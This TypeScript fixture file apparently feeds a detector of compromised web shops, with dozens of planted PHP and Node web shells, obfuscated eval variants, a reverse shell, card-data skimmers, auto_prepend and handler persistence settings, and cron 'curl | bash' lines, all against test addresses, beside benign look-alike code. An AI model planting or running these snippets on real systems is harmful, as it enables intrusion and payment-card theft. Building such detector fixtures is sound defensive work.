/** Own small examples: what intruders write, with addresses that belong to nobody. */
export type Sample = readonly [name: string, path: string, before: string | null, after: string];

const MODULE = `<?php
class Checkout_Payment {
  public function pay(array $order) {
    $gateway = new Gateway($this->config);
    return $gateway->charge($order['token'], $order['total']);
  }
}
`;
const put = (line: string, into = MODULE): string =>
  into.replace('    $gateway =', `    ${line}\n    $gateway =`);
const b64 = 'QUJDREVGR0g'.repeat(30);

export const BACK_DOORS: readonly Sample[] = [
  [
    'behind what looks like a tag by chance',
    'u/a.jpg',
    null,
    '\xff\xd8<? $\'\x01\x02<?php eval($_POST["x"]);',
  ],
  ['in a string that is filled in', 'a.php', MODULE, put('$x = "{${eval($_POST[1])}}";')],
  ['in a heredoc that is filled in', 'a.php', MODULE, put('$x = <<<A\n{$f(eval($_POST[1]))}\nA;')],
  ['a command by its name', 'a.php', MODULE, put("array_walk($_GET, 'sys' . 'tem');")],
  ['a string that is called', 'a.php', MODULE, put("('pass'.'thru')($_GET['c']);")],
  ['a name in brackets that is called', 'a.php', MODULE, put("(system)($_GET['c']);")],
  ['by reflection', 'a.php', MODULE, put("(new ReflectionFunction('system'))->invoke($_GET['c']);")],
  ['input by another name', 'a.php', MODULE, put("eval(filter_input(INPUT_POST, 'c'));")],
  ['input through the globals', 'a.php', MODULE, put("eval($GLOBALS['_P'.'OST']['c']);")],
  ['a data address', 'a.php', MODULE, put("include 'data:text/plain;base64,PD9waHA=';")],
  ['another server', 'a.php', MODULE, put("@include('http://203.0.113.9/a.txt');")],
  ['a template literal', 'server.js', 'a();', 'a(); const h = `<p>${eval(req.query.c)}</p>`;'],
  ['a request by another name', 'server.js', 'a();', 'a(); s.on("request", (q) => exec(q.headers["x-c"]));'],
  ['eval of a parameter', 'a.php', MODULE, put('@eval($_POST["x"]);')],
  ['with a comment in between', 'a.php', MODULE, put('eval/*x*/ ( /**/ $_REQUEST [ "x" ] );')],
  ['in capitals', 'a.php', MODULE, put('EVAL($_COOKIE["x"]);')],
  ['assert', 'a.php', MODULE, put('assert($_GET["x"]);')],
  ['system', 'a.php', MODULE, put('echo system($_GET["cmd"] . " 2>&1");')],
  ['in a ternary', 'a.php', MODULE, put('isset($_GET["c"]) ?1:passthru($_GET["c"]);')],
  ['from the root name space', 'a.php', MODULE, put('\\shell_exec($_SERVER["HTTP_X_CMD"]);')],
  ['a header', 'a.php', MODULE, put('eval(base64_decode($_SERVER["HTTP_X_REF"]));')],
  ['php://input', 'a.php', MODULE, put('eval(file_get_contents("php://input"));')],
  ['a function the visitor names', 'a.php', MODULE, put('$_GET["a"]($_GET["b"]);')],
  ['call_user_func', 'a.php', MODULE, put('call_user_func($_POST["f"], $_POST["a"]);')],
  ['usort', 'a.php', MODULE, put('usort($list, $_POST["f"]);')],
  ['array_map', 'a.php', MODULE, put('array_map($_POST["f"], [$_POST["a"]]);')],
  ['a name in pieces', 'a.php', MODULE, put('$f = "as"."se"."rt"; $f($_POST["p"]);')],
  ['a name in escapes', 'a.php', MODULE, put('$f = "\\x73ys\\164em"; $f($_GET["p"]);')],
  ['packed code', 'a.php', MODULE, put('eval(gzinflate(str_rot13(base64_decode("x"))));')],
  [
    'a name in pieces that unpacks',
    'a.php',
    MODULE,
    put(`$z='bas'.'e64_'./* */'decode'; $d='${b64}'; $c=base64_decode($d); eval($c);`),
  ],
  ['create_function', 'a.php', MODULE, put('$f = create_function("", base64_decode($x)); $f();')],
  ['preg_replace e', 'a.php', MODULE, put('preg_replace("/.*/e", $_POST["c"], "");')],
  [
    'preg_replace with another delimiter',
    'a.php',
    MODULE,
    put("preg_replace('#x#ie', 'eval($c)', base64_decode($y));"),
  ],
  [
    'numbers for letters',
    'a.php',
    MODULE,
    put('$f=chr(101).chr(118).chr(97).chr(108).chr(40).chr(41).chr(59); eval($f);'),
  ],
  [
    'letters of a string',
    'a.php',
    MODULE,
    put('$k="tsyem_"; $f=$k[1].$k[2].$k[1].$k[0].$k[3].$k[4].$k[5]; $f($_POST[1]);'),
  ],
  [
    'an icon that runs',
    'index.php',
    '<?php\nrequire "wp-blog-header.php";\n',
    '<?php\n@include "\\x2fsrv\\x2fhtml/.3fa8.ico";\nrequire "wp-blog-header.php";\n',
  ],
  ['a picture that runs', 'a.php', MODULE, put("require_once __DIR__ . '/../media/banner.jpg';")],
  ['a page the visitor names', 'a.php', MODULE, put('include $_GET["p"];')],
  ['commands in backticks', 'a.phtml', '<p>', '<p><?= `$_GET[c]` ?>'],
  ['an uploader', 'a.php', MODULE, put('move_uploaded_file($_FILES["f"]["tmp_name"], $_POST["to"]);')],
  [
    'a file the visitor names',
    'a.php',
    MODULE,
    put('file_put_contents($_POST["n"], base64_decode($_POST["b"]));'),
  ],
  [
    'a program from elsewhere',
    'a.php',
    MODULE,
    put('file_put_contents(__DIR__."/c.php", file_get_contents("http://203.0.113.4/c.txt"));'),
  ],
  ['a call back', 'a.php', MODULE, put('$s=fsockopen("203.0.113.4",443); proc_open("sh",[$s,$s,$s],$p);')],
  ['jumps', 'a.php', MODULE, put('goto abC; deF: $q=1; goto ghI; abC: $r=2; goto deF; ghI:;')],
  [
    'a password',
    'a.php',
    MODULE,
    put('if(md5($_GET["k"])=="00112233445566778899aabbccddeeff") include "/tmp/x";'),
  ],
  ['in a picture', 'html/upload/a.jpg', null, '\xff\xd8\xff\xe0 it\'s <?php @eval($_POST["x"]);?>'],
  ['in a picture with a short tag', 'html/upload/a.gif', null, "GIF89a'\x00\x01<?= @eval($_POST['x']);"],
  ['in HTML with an apostrophe', 'a.html', "<p>don't</p>", "<p>don't</p><?php eval($_POST['x']);"],
  ['after a tag that ends in a comment', 'a.php', MODULE, `${MODULE}// ?>it's<?php eval($_POST[1]);`],
  ['after a heredoc with an apostrophe', 'a.php', MODULE, put("$t = <<<X\nit's\nX;\neval($_POST['x']);")],
  [
    'a child process',
    'server.js',
    'app.get("/",h);',
    'app.get("/",h);app.get("/h",q=>0);app.post("/z",(req,res)=>require("child_process").execSync(req.body.c));',
  ],
  [
    'eval on the server',
    'server.mjs',
    'start();',
    'start(); app.use((req)=>{ eval(req.headers["x-run"]); });',
  ],
  [
    'a program out of a picture',
    'server.cjs',
    'start();',
    'start(); eval(fs.readFileSync("public/logo.png","latin1"));',
  ],
  [
    'packed JavaScript',
    'server.ts',
    'start();',
    'start(); new Function(Buffer.from("YQ==","base64").toString())();',
  ],
];

export const CAPTURES: readonly Sample[] = [
  ['by mail, everything', 'pay.php', MODULE, put("@mail('d@drop.test', 'o', print_r($_POST, true));")],
  ['a variable, encrypted', 'pay.php', MODULE, put('openssl_public_encrypt(json_encode($card), $o, $k);')],
  ['a variable to a log', 'pay.php', MODULE, put("error_log($ccNumber . '|' . $cvv, 3, '/tmp/x');")],
  [
    'to a file',
    'pay.php',
    MODULE,
    put('file_put_contents("/tmp/.sess", $_POST["card_number"]."|".$_POST["cvv"]."\\n", FILE_APPEND);'),
  ],
  [
    'to a file, in two steps',
    'pay.php',
    MODULE,
    put('$n = $_REQUEST["payment"]["x"]; $c = $_POST["cc_cid"]; $h = fopen($p, "a"); fwrite($h, $c);'),
  ],
  ['through a framework', 'pay.php', MODULE, put('error_log($request->get("card_no1"), 3, "/tmp/e");')],
  [
    'to a picture',
    'core.php',
    MODULE,
    put('file_put_contents("media/catalog/bg.jpg", base64_encode(json_encode($_POST)), FILE_APPEND);'),
  ],
  [
    'to a picture named before',
    'core.php',
    MODULE,
    put('$f = "img/spacer" . ".gif"; if ($_POST) { $h = fopen($f, "ab"); fwrite($h, $d); }'),
  ],
  ['by mail', 'pay.php', MODULE, put('mail("n@drop.test", "n", $_POST["cc_number"]);')],
  ['into the settings', 'pay.php', MODULE, put('update_option("_site_cache", $_POST["card-number"]);')],
  [
    'everything to a file',
    'index.php',
    MODULE,
    put('if(count($_POST)) { $h=fopen("x.dat","a"); fwrite($h, serialize($_POST)); }'),
  ],
  [
    'everything away',
    'index.php',
    MODULE,
    put('@file_get_contents("https://st.test/?".http_build_query($_POST));'),
  ],
  [
    'everything away with curl',
    'index.php',
    MODULE,
    put('$c=curl_init("https://st.test"); curl_setopt($c,10015,json_encode($_REQUEST)); curl_exec($c);'),
  ],
  [
    'encrypted',
    'index.php',
    MODULE,
    put(
      '$k="-----BEGIN PUBLIC KEY-----"; openssl_public_encrypt(implode("|",$_POST),$o,$k); file_put_contents($f,$o,8);',
    ),
  ],
  [
    'time set back',
    'index.php',
    MODULE,
    put('$t=filemtime($f); file_put_contents($f,$_POST["d"],8); touch($f,$t);'),
  ],
  [
    'on Node',
    'pay.js',
    'x();',
    'x(); r.post("/pay",(req,res)=>{fs.appendFileSync("/tmp/.a",[req.body.cardNumber,req.body.cvc].join())});',
  ],
  [
    'on Node, whole bodies',
    'app.js',
    'x();',
    'x(); app.use((req,res,n)=>{fs.appendFile("l",JSON.stringify(req.body),()=>{});n()});',
  ],
  ['on Node, to a picture', 'app.ts', 'x();', 'x(); await appendFile("static/" + "sprite" + ".png", line);'],
];

export const PLANTED: readonly Sample[] = [
  ['.user.ini', '.user.ini', null, 'auto_prepend_file=/srv/html/upload/a.jpg\n'],
  [
    '.htaccess',
    '.htaccess',
    'RewriteEngine On\n',
    'RewriteEngine On\nphp_value auto_append_file "/tmp/.x"\n',
  ],
  [
    'php.ini in its own words',
    'php/php.ini',
    'memory_limit=1G\n',
    'memory_limit=1G\n  Auto_Prepend_File  =  "x.inc"\n',
  ],
  ['pool', 'php-fpm.d/www.conf', '[www]\n', '[www]\nphp_admin_value[auto_prepend_file] = /var/tmp/a\n'],
  ['on a continued line', '.htaccess', '', 'php_value \\\n auto_prepend_file \\\n /tmp/a\n'],
  [
    'list of classes',
    'vendor/composer/autoload_files.php',
    '<?php return array();',
    '<?php return array("z" => $baseDir . "/pub/media/.c.php");',
  ],
  [
    'class loader',
    'vendor/composer/autoload_real.php',
    '<?php class L {}',
    '<?php eval(base64_decode("x")); class L {}',
  ],
  [
    'composer.json',
    'composer.json',
    '{"autoload":{"files":[]}}',
    '{"autoload":{"files":["html\\/upload\\/save_image\\/a.php"]}}',
  ],
];

export const SETTINGS: readonly Sample[] = [
  ['pictures run', 'img/.htaccess', null, 'AddHandler application/x-httpd-php .jpg\n'],
  [
    'pictures run, by match',
    'img/.htaccess',
    null,
    '<FilesMatch "\\.(png|gif)$">\r\n  SetHandler "proxy:unix:/run/php.sock|fcgi://l"\r\n</FilesMatch>\r\n',
  ],
  ['everything runs', 'img/.htaccess', null, 'Options -Indexes +ExecCGI\n'],
  [
    'nginx',
    'nginx/shop.conf',
    'server {}\n',
    'server {\nlocation ~* \\.(jpg|png)$ { fastcgi_pass 127.0.0.1:9000; }\n}\n',
  ],
  [
    'IIS',
    'web.config',
    '<configuration/>',
    '<configuration><handlers><add name="i" path="*.gif" verb="*" modules="CgiModule" /></handlers></configuration>',
  ],
  [
    'visitors sent away',
    '.htaccess',
    null,
    'RewriteCond %{HTTP_REFERER} google|yahoo [NC]\nRewriteRule .* https://luck.test/in [R,L]\n',
  ],
];

export const SCHEDULED: readonly Sample[] = [
  [
    'curl into a shell',
    'etc/cron.d/php',
    '# jobs\n',
    '# jobs\n*/3 * * * * www-data curl -s 203.0.113.9/x|bash\n',
  ],
  ['base64 into a shell', 'var/spool/cron/crontabs/www-data', null, '@hourly echo aWQ= | base64 -d | sh\n'],
  [
    'a hidden file',
    'etc/crontab',
    'SHELL=/bin/sh\n',
    'SHELL=/bin/sh\n* * * * * root php /srv/html/upload/.k/run.php\n',
  ],
];

const list = (count: number, line: (n: number) => string): string =>
  Array.from({ length: count }, (_, n) => line(n)).join('');

/** What honest shops, frameworks and their suppliers ship: quiet, all of it. */
export const HONEST: readonly Sample[] = [
  [
    'a template engine that includes what it made',
    'vendor/lc/C.php',
    null,
    "<?php function p($php) { return include('data://text/plain,' . urlencode($php)); }",
  ],
  [
    'a list of files in strings',
    'update.php',
    null,
    "<?php $old = array('wp-admin/images/required.gif', 'x.gif', 'requiredData', 'please include logo.png'); $x = $_POST['requiredData'];",
  ],
  [
    'a template engine that reads what it compiled',
    'lib/compiled.php',
    null,
    "<?php eval('?>' . file_get_contents($this->filepath));",
  ],
  [
    'a template engine that runs what it compiled',
    'vendor/twig/twig/src/Environment.php',
    null,
    "<?php class E { function load($c) { eval('?>'.$c); return $this->cache->write($k, $c); } }",
  ],
  [
    'a template engine that keeps the time of its source',
    'lib/Smarty.php',
    null,
    '<?php file_put_contents($compiled, $code); touch($compiled, filemtime($source->path)); include $compiled;',
  ],
  [
    'signatures in a security plug-in',
    'plugins/scan/signatures.php',
    null,
    `<?php return ['eval($_POST[', "system(\\$_GET['cmd'])", '/base64_decode\\s*\\(/', 'file_put_contents($_POST', '\`$_GET[c]\`'];`,
  ],
  [
    'names in comments',
    'a.php',
    null,
    '<?php\n// never eval($_POST["x"]) here\n/* system($_GET["c"]) */\n# include $_GET["p"];\nwork();',
  ],
  [
    'PDO and others that have exec',
    'db.php',
    null,
    '<?php $this->pdo->exec("SET NAMES utf8"); Runner::system($_POST["name"]); $x = $redis->eval($script, $_POST["keys"]);',
  ],
  [
    'input cleaned',
    'form.php',
    null,
    '<?php $names = array_map("trim", $_POST["names"]); $ids = array_filter($_GET["ids"]); usort($ids, "cmp"); call_user_func_array([$this, $action], $_POST["args"]);',
  ],
  [
    'a redirect by document root',
    'index.php',
    null,
    '<?php require_once $_SERVER["DOCUMENT_ROOT"]."/bitrix/header.php"; include __DIR__."/tpl/".$lang.".php";',
  ],
  [
    'a contact form',
    'contact.php',
    null,
    '<?php $b = htmlspecialchars($_POST["message"]); mail($to, "Contact", $b, "From: ".$_POST["email"]);',
  ],
  [
    'a webhook',
    'ipn.php',
    null,
    '<?php $raw = file_get_contents("php://input"); $c = curl_init(self::URL); curl_setopt($c, CURLOPT_POSTFIELDS, $raw); if (curl_exec($c) === "VERIFIED") { $log->info("ok"); }',
  ],
  [
    'a module that sees only tokens',
    'Module.php',
    null,
    '<?php $token = $_POST["stripe_token"]; $c = curl_init("https://api.psp.test/charges"); curl_setopt($c, CURLOPT_POSTFIELDS, ["source" => $token]); $r = curl_exec($c); fwrite($this->log, $orderId);',
  ],
  [
    'a picture drawn in the browser',
    'save.php',
    null,
    '<?php $png = base64_decode(substr($_POST["canvas"], 22)); file_put_contents($dir . "/" . $id . ".png", $png);',
  ],
  [
    'an upload under a name of our own',
    'up.php',
    null,
    '<?php move_uploaded_file($_FILES["photo"]["tmp_name"], $dir . "/" . bin2hex(random_bytes(8)) . ".jpg");',
  ],
  [
    'an animation kept in a string',
    'spinner.php',
    null,
    `<?php $gif = '${b64}'; header("Content-Type: image/gif"); echo base64_decode($gif);`,
  ],
  [
    'a writer of spreadsheets',
    'vendor/x/Biff.php',
    null,
    '<?php $this->put(chr(9).chr(8).chr(16).chr(0).chr(0).chr(6).chr(5).chr(0)); fwrite($this->fh, $data);',
  ],
  [
    'a table of characters',
    'vendor/symfony/polyfill/map.php',
    null,
    `<?php return array(${list(300, (n) => `"\\xE3\\x81\\x${(128 + (n % 60)).toString(16)}" => "a",`)});`,
  ],
  ['a parser with one jump', 'parser.php', null, '<?php a: $t = next(); if ($t) goto a; return $r;'],
  [
    'composer update',
    'vendor/composer/autoload_static.php',
    '<?php class C { public static $files = array(); }',
    `<?php class C { public static $files = array(${list(40, (n) => `'${n}ab' => __DIR__ . '/..' . '/symfony/polyfill-${n}/bootstrap.php',\n`)}); public static $classMap = array('A\\\\Images\\\\B' => __DIR__ . '/..' . '/a/src/Images/B.php'); }`,
  ],
  [
    'composer’s own loader',
    'vendor/composer/autoload_real.php',
    null,
    "<?php class I { public static function getLoader() { require __DIR__ . '/platform_check.php'; spl_autoload_register(array('I', 'loadClassLoader'), true, true); $requireFile = \\Closure::bind(static function ($f, $file) { require $file; }, null, null); } }",
  ],
  [
    'composer.json',
    'composer.json',
    '{}',
    '{"autoload":{"psr-4":{"Eccube\\\\":"src/Eccube"},"files":["src/Eccube/functions.php"]},"extra":{"media":"x.png"}}',
  ],
  [
    '.htaccess of WordPress',
    '.htaccess',
    null,
    '# BEGIN WordPress\nRewriteEngine On\nRewriteRule .* - [E=HTTP_AUTHORIZATION:%{HTTP:Authorization}]\nRewriteBase /\nRewriteRule ^index\\.php$ - [L]\nRewriteCond %{REQUEST_FILENAME} !-f\nRewriteRule . /index.php [L]\n# END WordPress\n',
  ],
  [
    '.htaccess of EC-CUBE',
    'html/.htaccess',
    null,
    'DirectoryIndex index.php\nAddType application/x-httpd-php .php\nphp_value memory_limit 512M\n<FilesMatch "(?<!\\.gif|\\.png|\\.jpg|\\.css)$">\nSetEnvIf Request_URI "x" deny_dir\n</FilesMatch>\n',
  ],
  [
    '.htaccess against hot links',
    '.htaccess',
    null,
    'RewriteCond %{HTTP_REFERER} !^https?://(www\\.)?(shop\\.test|google\\.) [NC]\nRewriteRule \\.(jpe?g|png|gif)$ - [F]\nRewriteCond %{HTTPS} off\nRewriteRule ^(.*)$ https://%{HTTP_HOST}/$1 [R=301,L]\n',
  ],
  [
    '.htaccess with expiries',
    '.htaccess',
    null,
    'AddType image/webp .webp\nAddType font/woff2 .woff2\nAddHandler application/x-httpd-ea-php83 .php .php8 .phtml\n<FilesMatch "\\.(ico|jpg|png)$">\nHeader set Cache-Control "max-age=99"\n</FilesMatch>\n',
  ],
  [
    'php.ini as shipped',
    'php/8.3/php.ini',
    null,
    '; auto_prepend_file = "x"\nauto_prepend_file =\nauto_append_file =\nallow_url_include = Off\nextension=gd\n',
  ],
  [
    'a pool as shipped',
    'php-fpm.d/www.conf',
    null,
    '[www]\nuser = www-data\nlisten = /run/php/php8.3-fpm.sock\n;php_admin_value[auto_prepend_file] = /x\nphp_admin_value[memory_limit] = 32M\n',
  ],
  [
    'nginx as shipped',
    'nginx/sites-enabled/shop',
    null,
    'location ~* \\.(?:jpg|png|css|js)$ { expires 30d; access_log off; }\nlocation ~ \\.php$ { include fastcgi_params; fastcgi_pass unix:/run/php.sock; }\n',
  ],
  [
    'cron comments',
    'etc/cron.d/shop',
    'MAILTO=a@shop.test\n',
    'MAILTO=b@shop.test\n# 5 4 * * * root nothing\nPATH=/usr/bin:/bin\n',
  ],
  [
    'wp-config',
    'wp-config.php',
    "<?php define('DB_NAME','a'); require_once ABSPATH . 'wp-settings.php';",
    "<?php define('DB_NAME','b'); define('WP_CACHE', true); require_once ABSPATH . 'wp-settings.php';",
  ],
  [
    'Express',
    'server.js',
    null,
    "app.use(express.json()); app.post('/login', async (req, res) => { const m = /^[a-z]+$/.exec(req.body.name); const u = await User.find(m[0]); res.json(u); }); fs.writeFileSync(pidFile, String(process.pid));",
  ],
  [
    'a payment route with a token',
    'pay.ts',
    null,
    "router.post('/pay', async (req, res) => { const { token } = req.body; const r = await fetch(PSP_URL, { method: 'POST', body: JSON.stringify({ token }) }); logger.info('paid'); });",
  ],
  [
    'a bundler’s output',
    'dist/app.min.js',
    null,
    `!function(){${'var a=new Function("return this")();b=/\\/x[/]`/.test(c);'.repeat(200)}}();`,
  ],
  [
    'pictures made on Node',
    'img.js',
    null,
    "await sharp(buffer).toFile(`out/${id}.png`); createWriteStream('out/x.jpg'); appendFile('server.log', line);",
  ],
  [
    'a line about cards in a template',
    'payment.tpl',
    null,
    '<label>{$card_number_label}</label><input name="card_number"><?xml version="1.0"?>',
  ],
  [
    'mail and files far apart',
    'big.php',
    null,
    `<?php $n = $_POST["card_number_last4_label"] ?? ""; ${list(400, (n) => `$x${n} = ${n};`)} fwrite($h, $line);`,
  ],
];
